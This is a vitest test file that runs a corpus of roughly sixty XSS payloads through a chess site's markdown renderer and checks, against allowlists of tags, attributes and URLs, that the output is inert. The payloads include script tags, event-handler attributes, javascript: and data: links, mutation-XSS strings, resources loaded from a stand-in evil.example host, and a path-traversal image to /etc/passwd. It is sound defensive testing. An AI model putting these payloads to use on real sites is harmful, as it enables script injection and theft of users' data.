import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { type MarkdownOptions, renderMarkdown } from './markdown';

/**
 * A corpus of attacks on the renderer, each rendered in every profile and option a page uses
 * (chat, documents, articles with boards and uploaded images). The output is parsed as a browser
 * would, and every element and attribute is checked: nothing runs, nothing loads from elsewhere.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=x></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](https://chess.com/"onmouseover="alert(1))',
  "[x](https://chess.com/'onclick='alert(1))",
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="alert(1)](https://chess.com/a.png)',
  '![x](/uploads/../../etc/passwd)',
  '![x](//evil.example/a.png)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://evil.example/phish>',
  'https://evil.example/phish',
  'www.evil.example',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```fen\n"><script>alert(1)</script>\n```',
  '```pgn\n[Event "x" onload="alert(1)"]\n1. e4 <img src=x onerror=alert(1)>\n```',
  '```fen onclick=alert(1)\n8/8/8/8/8/8/8/K6k w - - 0 1\n```',
  '> <script>alert(1)</script>',
  '* [x](javascript:alert(1))\n* <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '**<img src=x onerror=alert(1)>**',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<script>alert(1)-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="https://chess.com" target="_blank" onclick="alert(1)">chess</a>',
  '[chess](https://chess.com "title\\" onmouseover=\\"alert(1)")',
  '<x onclick=alert(1)>click</x>',
  '\u0000<script>alert(1)</script>',
];

const OPTIONS: [string, MarkdownOptions][] = [
  ['inline', { profile: 'inline' }],
  ['document', { profile: 'document' }],
  ['article', { profile: 'document', diagrams: true, uploadedImages: true }],
];

const ALLOWED_TAGS = new Set([
  'P',
  'BR',
  'EM',
  'STRONG',
  'S',
  'DEL',
  'CODE',
  'A',
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'BLOCKQUOTE',
  'PRE',
  'UL',
  'OL',
  'LI',
  'HR',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
  'IMG',
  'DIV',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'rel',
  'src',
  'alt',
  'title',
  'start',
  'style',
  'class',
  'data-chess-fen',
  'data-chess-pgn',
]);
const SAFE_URL =
  /^(https:\/\/([a-z0-9-]+\.)*(chess\.com|chess\.tv|youtube\.com|twitch\.tv|vimeo\.com|twitter\.com|x\.com|facebook\.com|instagram\.com)([/?#]|$)|\/uploads\/[0-9a-f]{64}\.webp$)/i;

const window = new Window();

/** Every problem a browser would have with the HTML: elements, attributes and addresses not allowed. */
function problemsOf(html: string): string[] {
  const holder = window.document.createElement('div');
  holder.innerHTML = html;
  const problems: string[] = [];
  for (const element of holder.querySelectorAll('*')) {
    if (!ALLOWED_TAGS.has(element.tagName)) problems.push(`element ${element.tagName}`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`attribute ${name}`);
      if ((name === 'href' || name === 'src') && !SAFE_URL.test(attribute.value ?? ''))
        problems.push(`${name} ${attribute.value}`);
      if (
        name === 'style' &&
        !/^text-align:(left|right|center);?$/.test((attribute.value ?? '').replace(/\s/g, ''))
      )
        problems.push(`style ${attribute.value}`);
      if (name === 'class' && attribute.value !== 'chess-diagram') problems.push(`class ${attribute.value}`);
    }
  }
  return problems;
}

describe('renderMarkdown: an XSS corpus renders inert', () => {
  it('holds at least fifty payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
  });

  for (const [name, options] of OPTIONS) {
    it.each(PAYLOADS)(`${name}: %s`, (payload) => {
      const html = renderMarkdown(payload, options);
      expect(problemsOf(html)).toEqual([]);
      // Escaped text may say anything; a tag that could run may not.
      expect(html).not.toMatch(/<(script|svg|iframe|object|embed|style|form|input|meta|base|link|math)\b/i);
      // Outside quoted attribute values (an alt text may say `onerror=`, escaped and inert).
      expect(html.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i);
    });
  }

  it('keeps the board placeholder to its one class and its text attribute', () => {
    const html = renderMarkdown('```fen\n"><script>alert(1)</script>\n```', OPTIONS[2]![1]);
    expect(html).toBe(
      '<div class="chess-diagram" data-chess-fen="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"><pre>"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre></div>',
    );
  });
});
